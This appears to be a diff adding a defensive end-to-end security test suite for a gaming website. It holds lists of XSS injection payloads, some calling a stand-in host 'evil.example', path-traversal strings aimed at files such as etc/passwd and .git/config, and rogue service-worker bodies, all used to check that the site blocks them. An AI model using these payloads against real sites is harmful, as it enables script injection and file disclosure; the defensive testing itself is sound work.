@@ -1,0 +1,238 @@
+import fc from 'fast-check'
+import { SABOTAGE_OUTPUT } from '../../app/build/output.ts'
+import { startNginx } from '../deploy/nginx.ts'
+import { rawGet } from '../e2e/raw-get.ts'
+import { enter, expect, firstGame, test } from '../sabotage/site.ts'
+import { withWorker } from './with-worker.ts'
+
+const LONGEST_MS = 300_000
+const RAN = 'document.documentElement.dataset.ran=1'
+
+/** Markup that runs a script, sends a form, frames a page or changes how the page reads addresses, where nothing forbids it. */
+const INJECTIONS = [
+  `<img src=x onerror="${RAN}">`,
+  `<svg onload="${RAN}"></svg>`,
+  `<svg><script>${RAN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RAN}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin="${RAN}" attributeName=x dur=1s></svg>`,
+  `<body onload="${RAN}">`,
+  `<video><source onerror="${RAN}"></video>`,
+  `<audio src=x onerror="${RAN}"></audio>`,
+  `<details open ontoggle="${RAN}">x</details>`,
+  `<input autofocus onfocus="${RAN}">`,
+  `<marquee onstart="${RAN}">x</marquee>`,
+  `<style onload="${RAN}">a{}</style>`,
+  `<link rel=stylesheet href=data:text/css, onload="${RAN}">`,
+  `<div style="animation:x 1s" onanimationstart="${RAN}"></div>`,
+  `<a href="javascript:${RAN}" id=tap>x</a>`,
+  `<a href="JaVaScRiPt&colon;${RAN}" id=tap>x</a>`,
+  `<a href="java&#10;script:${RAN}" id=tap>x</a>`,
+  `<form action="javascript:${RAN}"><button id=tap>x</button></form>`,
+  `<form><button formaction="javascript:${RAN}" id=tap>x</button></form>`,
+  `<form action="https://evil.example/"><button id=tap>x</button></form>`,
+  `<iframe src="javascript:${RAN.replace('document', 'parent.document')}"></iframe>`,
+  `<iframe srcdoc="<script>${RAN.replace('document', 'parent.document')}</script>"></iframe>`,
+  `<iframe src="data:text/html,<script>parent.postMessage(1,'*')</script>"></iframe>`,
+  `<iframe src="http://evil.example/"></iframe>`,
+  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
+  `<object data="/m/home"></object>`,
+  `<embed src="data:image/svg+xml,<svg onload='${RAN}'/>">`,
+  `<embed src="/m/home">`,
+  `<base href="https://evil.example/">`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${RAN}">x</maction></math>`,
+  `<img src="https://evil.example/x.png">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<video src="https://evil.example/x.mp4" autoplay></video>`,
+] as const
+/** The same by a script that creates elements, as a gadget in a library would. */
+const ELEMENTS: readonly (readonly [
+  tag: string,
+  attributes: Readonly<Record<string, string>>,
+  text: string,
+])[] = [
+  ['script', {}, RAN],
+  ['script', { type: 'module' }, RAN],
+  ['script', { src: `data:text/javascript,${RAN}` }, ''],
+  ['script', { src: 'https://evil.example/x.js' }, ''],
+  ['script', { type: 'importmap' }, '{"imports":{"x":"https://evil.example/x.js"}}'],
+  ['script', { nonce: 'x' }, RAN],
+  ['script', { type: 'speculationrules' }, '{"prefetch":[{"urls":["https://evil.example/"]}]}'],
+]
+
+test('[SE-01] markup that got into a page runs nothing and reaches no other host', async ({
+  page,
+  complaints,
+}) => {
+  test.setTimeout(LONGEST_MS)
+  complaints.provoke(/./)
+  const outside: string[] = []
+  page.on('requestfinished', (request) => {
+    if (request.url().includes('evil.example')) outside.push(request.url())
+  })
+  // Whoever is asked answers, so that only the page's policy stands in between.
+  await page.route('**/evil.example/**', (route) =>
+    route.fulfill({ body: RAN, contentType: 'text/javascript' }),
+  )
+  await enter(page, '/m/home')
+  await expect(firstGame(page)).toBeVisible()
+  const { href } = new URL(page.url())
+  const tryOut = async (inject: () => Promise<void>, what: string): Promise<void> => {
+    await inject()
+    // Handlers of events and loads run in tasks of their own.
+    await page.evaluate(
+      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
+    )
+    expect(await page.evaluate(() => document.documentElement.dataset['ran'] ?? ''), what).toBe('')
+    expect(page.url(), what).toBe(href)
+    expect(await page.evaluate(() => document.baseURI), what).toBe(href)
+  }
+  for (const markup of INJECTIONS)
+    await tryOut(
+      () =>
+        page.evaluate((html) => {
+          document.getElementById('planted')?.remove()
+          const planted = document.body.appendChild(document.createElement('div'))
+          planted.id = 'planted'
+          planted.innerHTML = html
+          planted.querySelector<HTMLElement>('#tap')?.click()
+        }, markup),
+      markup,
+    )
+  for (const [tag, attributes, text] of ELEMENTS)
+    await tryOut(
+      () =>
+        page.evaluate(
+          ([name, given, content]) => {
+            const element = document.createElement(name)
+            for (const [key, value] of Object.entries(given)) element.setAttribute(key, value)
+            element.textContent = content
+            document.head.append(element)
+          },
+          [tag, attributes, text] as const,
+        ),
+      `${tag} ${JSON.stringify(attributes)}`,
+    )
+  await tryOut(
+    () => page.evaluate((code) => void setTimeout.call(window, code as never), RAN),
+    'a timer with a text',
+  )
+  expect(outside).toEqual([])
+})
+
+test('no crafted path reaches a file outside of what is served, at nginx or at the preview', async ({
+  sabotageUrl,
+}) => {
+  test.setTimeout(LONGEST_MS)
+  const nginx = await startNginx({ output: SABOTAGE_OUTPUT })
+  const ups = [
+    '..',
+    '%2e%2e',
+    '.%2e',
+    '%2e.',
+    '..;',
+    '%252e%252e',
+    '..%00',
+    '....',
+    '%c0%ae%c0%ae',
+    '..%c0%af',
+    '．．',
+  ]
+  const slashes = ['/', '//', '%2f', '%5c', '\\', '%252f', '/./', '%c0%af']
+  const starts = [
+    '/',
+    '/m',
+    '/m/',
+    '/m/assets',
+    '/m/t',
+    '/m/brand',
+    '/m/brand/lotus',
+    '/cdn',
+    '/wps',
+    '/__harness',
+  ]
+  const ends = ['build.json', 'package.json', 'server/bake.js', 'deploy/merchants.json', 'etc/passwd', '.git/config', 'client/.vite/manifest.json', 'site/lotus/VI/home.html'] // prettier-ignore
+  const path = fc
+    .tuple(
+      fc.constantFrom(...starts),
+      fc.array(fc.tuple(fc.constantFrom(...slashes), fc.constantFrom(...ups)), {
+        minLength: 1,
+        maxLength: 6,
+      }),
+      fc.constantFrom(...slashes),
+      fc.constantFrom(...ends),
+    )
+    .map(([start, steps, slash, end]) => start + steps.flat().join('') + slash + end)
+  const secret = /"textsUrl"|"workspaces"|hashSource|"policy"|root:x:|\[core\]|app\/main\.tsx"/
+  const targets = new Set(
+    fc.sample(path, { numRuns: 1_200, seed: 7 }).map((text) => Buffer.from(text).toString('latin1')),
+  )
+  const work = [...targets].flatMap((target) =>
+    [nginx.port, Number(new URL(sabotageUrl).port)].map((port) => [target, port] as const),
+  )
+  const ask = async (): Promise<void> => {
+    for (let next = work.pop(); next; next = work.pop()) {
+      const [target, port] = next
+      const { status, text } = await rawGet(port, target)
+      expect(status, target).not.toBe(500)
+      expect(text, target).not.toMatch(secret)
+    }
+  }
+  await Promise.all(Array.from({ length: 16 }, ask))
+  await nginx.close()
+})
+
+const GARBAGE = ['', 'null', '{', '[]', '{}', '0', 'true', '"', '\u0000', '💥'.repeat(1_000), '{"__proto__":{"x":1}}', '[[[[[[1]]]]]]', 'x'.repeat(200_000), '-1e999', '<script>'] // prettier-ignore
+
+test('whatever stands in the browser’s storage, the site starts', async ({ page, complaints }) => {
+  // What cannot be read is reported, and dropped.
+  complaints.provoke(/ST-SHAPE/)
+  test.setTimeout(LONGEST_MS)
+  await enter(page, '/m/home', { member: 'player' })
+  await expect(firstGame(page)).toBeVisible()
+  for (const garbage of GARBAGE) {
+    await page.evaluate((text) => {
+      for (const storage of [localStorage, sessionStorage])
+        for (const key of Object.keys(storage)) storage.setItem(key, text)
+      for (const name of ['language', '_fbp', 'merchant']) document.cookie = `${name}=${encodeURIComponent(text.slice(0, 500))}`
+    }, garbage) // prettier-ignore
+    await page.goto('/m/home')
+    await expect(firstGame(page), garbage.slice(0, 40)).toBeVisible()
+    await expect(page.getByRole('banner')).toBeVisible()
+  }
+})
+
+test.describe('a service worker that is not the site’s', () => {
+  test.use({ serviceWorkers: 'allow' })
+  const WORKERS = [
+    ['a page', 'text/html', '<!doctype html>'],
+    ['no script at all', 'text/javascript', '{{{'],
+    ['one that throws', 'text/javascript', 'throw new Error("no")'],
+    [
+      'one whose installation fails',
+      'text/javascript',
+      'addEventListener("install",e=>e.waitUntil(Promise.reject()))',
+    ],
+    [
+      'one that never installs',
+      'text/javascript',
+      'addEventListener("install",e=>e.waitUntil(new Promise(()=>{})))',
+    ],
+    ['empty', 'text/javascript', ''],
+  ] as const
+  for (const [what, contentType, body] of WORKERS)
+    test(`${what}: the site works without one`, async ({ browser, baseURL, complaints }) => {
+      complaints.provoke(/./)
+      const server = await withWorker(Number(new URL(baseURL ?? '').port), { contentType, body })
+      const context = await browser.newContext({ baseURL: `http://lotus.localhost:${server.port}` })
+      const page = await context.newPage()
+      await enter(page, '/m/home')
+      await expect(firstGame(page)).toBeVisible()
+      await expect.poll(server.served, { timeout: 20_000 }).toBeGreaterThan(0)
+      await page.reload()
+      await expect(firstGame(page)).toBeVisible()
+      await page.getByRole('banner').getByRole('link', { name: 'Log in' }).click()
+      await expect(page.getByLabel('Username')).toBeVisible()
+      await context.close()
+      server.close()
+    })
+})
